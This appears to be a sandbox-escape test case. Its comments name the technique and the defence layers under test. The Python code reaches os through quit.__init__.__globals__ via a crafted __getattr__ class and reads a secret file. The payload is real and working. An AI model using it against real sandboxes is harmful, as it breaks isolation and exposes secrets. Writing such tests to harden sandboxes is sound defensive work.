# class: attribute access without a dot
# technique: a hook as a keyword argument that becomes a class's namespace
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
box = []
made = kind(int)('Made', (), dict(__getattr__=lambda self, name: quit.__init__.__globals__))
g = made().anything
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
